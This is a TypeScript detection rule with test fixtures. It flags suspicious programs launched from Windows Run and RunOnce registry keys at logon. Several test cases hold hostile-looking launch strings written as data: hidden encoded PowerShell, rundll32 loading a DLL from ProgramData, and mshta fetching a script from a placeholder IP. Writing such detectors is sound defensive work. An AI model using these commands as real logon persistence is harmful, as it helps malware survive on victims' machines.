import { registryKey } from '../../src/detect/reading/registry.ts'
import { oddLaunch } from '../../src/detect/reading/windows-launch.ts'
import { rule, table } from '../../src/detect/rule.ts'

const KEY =
  /^(?:hklm|hku\\\*)\\software\\microsoft\\windows\\currentversion\\(?:run|runonce|runonceex(?:\\.*)?|runservices|runservicesonce|policies\\explorer\\run)$/

export default rule({
  id: 'windows.odd-run-key',
  title: 'Odd code runs at every logon',
  severity: 'high',
  on: table('registry'),
  attack: ['T1547.001'],
  means:
    'A Run key starts code that is encoded, fetched or hidden in a script host, or a file from a folder where nobody installs programs, whenever the user logs on. A user may write there without rights: it is the first thing malware does.',
  check: "SELECT name, path, args, source, status, username FROM startup_items WHERE source LIKE 'HKEY%';",
  benign:
    'Scripts that people run at logon themselves: told as medium. Chat apps live in folders of their own in AppData and are not told.',
  runbook:
    'Read or decode what it runs; hash the file and look it up. Unknown: isolate the host, keep the file, delete the value, and look for what wrote it and what it fetched.',
  references: ['https://attack.mitre.org/techniques/T1547/001/'],
  detect: ({ columns }) =>
    columns.type !== 'subkey' && KEY.test(registryKey(columns)) && oddLaunch(columns.data) !== null,
  dynamicSeverity: ({ columns }) => (oddLaunch(columns.data)?.sure === true ? 'high' : 'medium'),
  alertTitle: ({ host, columns }) => `At logon ${host} ${oddLaunch(columns.data)?.reason} (${columns.name})`,
  dedup: ({ hostId, columns }) => `${hostId} ${columns.name}`,
  context: ({ columns }) => ({ key: columns.key, name: columns.name, data: columns.data }),
  tests: [
    {
      name: 'encoded PowerShell of a user',
      match: true,
      counter: '0',
      columns: run('Updater', 'powershell -w hidden -enc dwBoAG8AYQBtAGkA'),
      title: 'At logon test-host runs encoded PowerShell (Updater)',
      dedup: 'test-host-id Updater',
      severity: 'high',
    },
    {
      name: 'of all users, once',
      match: true,
      columns: {
        ...run('x', 'rundll32.exe C:\\ProgramData\\a.dll,Start'),
        key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce',
      },
    },
    {
      name: 'by a part of RunOnceEx',
      match: true,
      columns: {
        ...run('1', 'C:\\Users\\Public\\a.exe'),
        key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend',
      },
    },
    {
      name: 'a program loose in AppData',
      match: true,
      columns: run('x', '"C:\\Users\\ada\\AppData\\Roaming\\x.exe"'),
    },
    {
      name: 'a person’s own script',
      match: true,
      columns: run('x', 'C:\\Users\\ada\\Documents\\a.cmd'),
      severity: 'medium',
    },
    {
      name: 'a chat app',
      match: false,
      columns: run(
        'Slack',
        '"C:\\Users\\ada\\AppData\\Local\\slack\\slack.exe" --process-start-args --startup',
      ),
    },
    {
      name: 'of Windows',
      match: false,
      columns: run('SecurityHealth', '%windir%\\system32\\SecurityHealthSystray.exe'),
    },
    { name: 'a product', match: false, columns: run('Example', '"C:\\Program Files\\Example\\a.exe" /tray') },
    { name: 'an empty value', match: false, columns: run('(Default)', '') },
    {
      name: 'a key below',
      match: false,
      columns: { ...run('x', 'mshta http://192.0.2.1/a'), type: 'subkey' },
    },
    {
      name: 'another key',
      match: false,
      columns: { ...run('x', 'mshta http://192.0.2.1/a'), key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Example\\Run' },
    },
    { name: 'taken out', match: false, action: 'removed', columns: run('x', 'mshta http://192.0.2.1/a') },
  ],
})

function run(name: string, data: string) {
  const key = 'HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
  return { key, path: `${key}\\${name}`, name, type: 'REG_SZ', data }
}
